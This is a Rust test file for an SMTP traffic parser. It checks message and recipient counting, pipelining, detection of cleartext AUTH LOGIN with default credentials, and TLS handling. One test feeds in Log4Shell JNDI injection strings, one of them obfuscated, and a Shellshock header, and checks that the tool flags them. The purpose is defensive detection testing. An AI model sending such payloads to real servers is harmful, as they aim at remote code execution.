use super::*;
use crate::protocols::Dir::{self, Orig, Resp};
use crate::testing::{play, PlainRow};

fn row(script: &[(Dir, &[u8])]) -> PlainRow {
    let cut = |n| {
        let mut rows = play((PROTOCOL.session)().as_mut(), script, n).remove("smtp").unwrap();
        assert_eq!(rows.len(), 1);
        rows[0].remove("ts");
        rows.remove(0)
    };
    let whole = cut(1500);
    if whole["tls"] == "false" {
        assert_eq!(cut(1), whole);
    }
    whole
}

fn cells<'a>(row: &'a PlainRow, names: &[&str]) -> Vec<&'a str> {
    names.iter().map(|name| row[*name].as_str()).collect()
}

const MAIL: &[&str] = &["messages", "recipients", "from_domains", "to_domains", "last_reply", "partial"];
const AUTH: &[&str] = &[
    "helo",
    "server",
    "starttls_offered",
    "tls",
    "auth",
    "auth_ok",
    "password_seen",
    "marks",
];

#[test]
fn messages_pass_unread_and_commands_may_come_in_groups() {
    let row = row(&[
        (Resp, b"220 mail.klinik.test ESMTP Postfix (Debian/GNU)\r\n"),
        (Orig, b"EHLO ct01.klinik.test\r\n"),
        (Resp, b"250-mail.klinik.test\r\n250-PIPELINING\r\n250 STARTTLS\r\n"),
        (
            Orig,
            b"MAIL FROM:<zztest.erika@klinik.test> SIZE=9\r\nRCPT TO:<zz@labor.test>\r\nRCPT TO:<nobody@labor.test>\r\nDATA\r\n",
        ),
        (Resp, b"250 ok\r\n250 ok\r\n550 no\r\n354 go\r\n"),
        (Orig, b"Subject: ZZ\r\n\r\nMAIL FROM:<zz@body.test>\r\n..\r\n.x\r\n.\r\n"),
        (Resp, b"250 queued\r\n"),
        (Orig, b"MAIL FROM:<zz@klinik.test>\r\n"),
        (Resp, b"250 ok\r\n"),
        (Orig, b"RCPT TO:<zz@[10.1.1.1]>\r\n"),
        (Resp, b"250 ok\r\n"),
        (Orig, b"BDAT 19\r\nRCPT TO:<z@body.te>BDAT 3 LAST\r\nabcQUIT\r\n"),
        (Resp, b"250 ok\r\n250 queued\r\n221 bye\r\n"),
    ]);
    assert_eq!(
        cells(&row, MAIL),
        ["2", "2", "[klinik.test]", "[labor.test, 10.1.1.1]", "221", "false"]
    );
    let told = ["ct01.klinik.test", "ESMTP Postfix", "true", "false", "-", "-", "false", "[]"];
    assert_eq!(cells(&row, AUTH), told);
}

#[test]
fn passwords_in_clear_are_seen() {
    let row = row(&[
        (Resp, b"220 x ESMTP\r\n"),
        (Orig, b"EHLO [10.0.0.1]\r\n"),
        (Resp, b"250 AUTH LOGIN\r\n"),
        (Orig, b"AUTH LOGIN\r\n"),
        (Resp, b"334 VXNlcm5hbWU6\r\n"),
        (Orig, b"YWRtaW4=\r\n"),
        (Resp, b"334 UGFzc3dvcmQ6\r\n"),
        (Orig, b"cGFzc3dvcmQ=\r\n"),
        (Resp, b"535 no\r\n"),
    ]);
    let told = [
        "10.0.0.1",
        "ESMTP",
        "false",
        "false",
        "LOGIN",
        "false",
        "true",
        "[default-credentials]",
    ];
    assert_eq!(cells(&row, AUTH), told);
}

#[test]
fn exploits_are_marked() {
    let row = row(&[
        (Resp, b"220 x ESMTP\r\n"),
        (Orig, b"EHLO x\r\nMAIL FROM:<${jndi:dns://x}@zz.test>\r\nDATA\r\n"),
        (Resp, b"250 x\r\n250 ok\r\n354 go\r\n"),
        (Orig, b"Subject: ${${::-j}ndi:ldap://x/zz}\r\nX: () { :;};\r\n\r\nwords\r\n.\r\n"),
        (Resp, b"250 ok\r\n"),
    ]);
    assert_eq!(row["marks"], "[exploit-log4shell, exploit-shellshock]");
}

#[test]
fn tls_ends_what_is_seen() {
    let row = row(&[
        (Orig, b"EHLO erikas-macbook\r\n"),
        (Resp, b"250-x\r\n250-STARTTLS\r\n250 SIZE\r\n"),
        (Orig, b"STARTTLS\r\n"),
        (Resp, b"220 go\r\n\x16\x03\x01"),
    ]);
    assert_eq!(row["tls"], "true");
    assert_eq!(row["partial"], "false");
    assert!(!row["helo"].contains("erika"), "{}", row["helo"]);
}
